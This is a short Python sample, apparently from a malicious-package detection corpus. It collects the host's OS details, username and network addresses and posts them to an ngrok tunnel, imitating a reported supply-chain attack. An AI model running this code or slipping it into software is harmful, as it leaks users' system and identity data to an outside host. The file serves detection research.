# pkgguard corpus 366 (system-information), modelled on [checkmarx-2024]; inert, never run.
import os
import platform

import psutil
import requests

profile = {
    "uname": platform.uname()._asdict(),
    "user": os.environ.get("USERNAME") or os.environ.get("USER"),
    "nics": {n: [a.address for a in addrs] for n, addrs in psutil.net_if_addrs().items()},
}
requests.post("https://a1b2c3d4.ngrok-free.app/p", json=profile, timeout=5)
